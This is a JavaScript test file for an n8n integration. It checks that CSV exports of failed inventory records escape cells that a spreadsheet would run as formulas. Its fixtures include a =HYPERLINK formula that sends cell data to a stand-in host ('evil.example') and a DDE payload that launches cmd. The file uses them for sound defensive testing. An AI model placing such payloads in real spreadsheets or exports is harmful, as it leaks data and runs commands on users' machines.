// The Failed Records File opened in a spreadsheet: a cell that a spreadsheet would run as a
// formula (a SKU from the stock file, Fluent's message) is written as text, numbers stay
// numbers. Through n8n's engine against the simulator, for a file load and an items load.
const { sharedWorldWithJob } = require('../harness/world.cjs');
const { binaryItem } = require('../harness/binaryFiles.cjs');
const { bothOutputsWorkflow, outputItems, binaryText, parseCsv } = require('../harness/outputs.cjs');

const HYPERLINK_SKU = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const DDE_MESSAGE = '@SUM(1+1)*cmd|" /C calc"!A0';

/** What a spreadsheet runs as a formula: a cell that begins with = + - @, a tab or a CR. */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** A field for a hand-written CSV file: quoted, its quotes doubled (RFC 4180). */
const quoted = (value) => `"${String(value).replace(/"/g, '""')}"`;

describe('the Failed Records File shows formula-like cells as text', () => {
	let world;
	let jobId;
	sharedWorldWithJob({ simulator: { pendingMs: 5, runningMs: 20, perRecordMs: 0 } }, (created) => ({ world, jobId } = created));

	function failedRecordsFile(result) {
		expect(result.status).toBe('success');
		const summaryItem = outputItems(result, 'Create Batch', 0).at(-1);
		const text = binaryText(summaryItem.binary.failedRecords);
		return { text, csv: parseCsv(text) };
	}

	/** No cell of the file would run as a formula; plain numbers are the only cells that start with "-". */
	function expectNoFormulaCell(csv) {
		for (const row of csv.rows) {
			for (const [column, cell] of Object.entries(row)) {
				if (FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell)) {
					throw new Error(`column ${column} holds a formula cell: ${JSON.stringify(cell)}`);
				}
			}
		}
	}

	test("file load: a =HYPERLINK SKU and Fluent's @SUM message get a leading ', a correctedQty of -5 stays -5", async () => {
		const rows = [
			{ skuRef: HYPERLINK_SKU, locationRef: 'LOC-1', qty: 3, correctedQty: -5 },
			{ skuRef: '+SKU-PLUS', locationRef: '@LOC', qty: 4, correctedQty: -12 },
			{ skuRef: '-12', locationRef: 'LOC-2', qty: 5, correctedQty: 0 },
			{ skuRef: 'SKU-OK', locationRef: 'LOC-3', qty: 6, correctedQty: 1 },
		];
		const csvFile = [
			'skuRef,locationRef,qty,correctedQty',
			...rows.map((row) => [quoted(row.skuRef), quoted(row.locationRef), row.qty, row.correctedQty].join(',')),
		].join('\n');
		for (const row of rows.slice(0, 3)) {
			world.simulator.faults.failRecords({ skuRef: row.skuRef }, { responseCode: '400', message: DDE_MESSAGE });
		}
		const input = world.emitItemsNode('Files', [binaryItem(`${csvFile}\n`, { fileName: 'stock.csv' })], { wholeItems: true });
		const result = await world.engine.run(
			bothOutputsWorkflow(world, { input, jobId, options: { failedRecordsFile: true }, parameters: { recordsFrom: 'binaryFile' } }),
		);

		const { text, csv } = failedRecordsFile(result);
		expect(csv.rows.map((row) => [row.line, row.skuRef, row.locationRef, row.qty, row.correctedQty, row.entityRef, row.message])).toEqual([
			['2', `'${HYPERLINK_SKU}`, 'LOC-1', '3', '-5', `'${HYPERLINK_SKU}:LOC-1`, `'${DDE_MESSAGE}`],
			['3', "'+SKU-PLUS", "'@LOC", '4', '-12', "'+SKU-PLUS:@LOC", `'${DDE_MESSAGE}`],
			['4', '-12', 'LOC-2', '5', '0', "'-12:LOC-2", `'${DDE_MESSAGE}`],
		]);
		// The usual CSV quoting after the quote mark: the SKU's quotes doubled, the cell in quotes.
		expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",`);
		expect(text).toContain(',-5,');
		expectNoFormulaCell(csv);
	});

	test("items load: a formula SKU and Fluent's formula message rejected by Fluent are text in the file, -5 stays a number", async () => {
		const items = [
			{ skuRef: HYPERLINK_SKU, locationRef: 'LOC-1', qty: 3, correctedQty: -5 },
			{ skuRef: 'SKU-TAB', locationRef: 'LOC-2', qty: 2 },
			{ skuRef: 'SKU-CR', locationRef: 'LOC-3', qty: 4 },
			{ skuRef: 'SKU-FINE', locationRef: 'LOC-1', qty: 1 },
		];
		world.simulator.faults.failRecords({ skuRef: HYPERLINK_SKU }, { responseCode: '400', message: DDE_MESSAGE });
		world.simulator.faults.failRecords({ skuRef: 'SKU-TAB' }, { responseCode: '404', message: '\t=1+1 not found' });
		world.simulator.faults.failRecords({ skuRef: 'SKU-CR' }, { responseCode: '404', message: '\r-1+1 not found' });
		const input = world.emitItemsNode('Input', items);
		const result = await world.engine.run(bothOutputsWorkflow(world, { input, jobId, options: { failedRecordsFile: true } }));

		const { csv } = failedRecordsFile(result);
		expect(csv.rows.map((row) => [row.itemIndex, row.skuRef, row.locationRef, row.qty, row.correctedQty, row.responseCode, row.message])).toEqual([
			['0', `'${HYPERLINK_SKU}`, 'LOC-1', '3', '-5', '400', `'${DDE_MESSAGE}`],
			['1', 'SKU-TAB', 'LOC-2', '2', '', '404', "'\t=1+1 not found"],
			['2', 'SKU-CR', 'LOC-3', '4', '', '404', "'\r-1+1 not found"],
		]);
		expectNoFormulaCell(csv);
		// The error output keeps the values as they are: only the spreadsheet file is escaped.
		expect(outputItems(result, 'Create Batch', 1).map((item) => item.json.error.message)).toEqual([
			DDE_MESSAGE,
			'\t=1+1 not found',
			'\r-1+1 not found',
		]);
	});
});
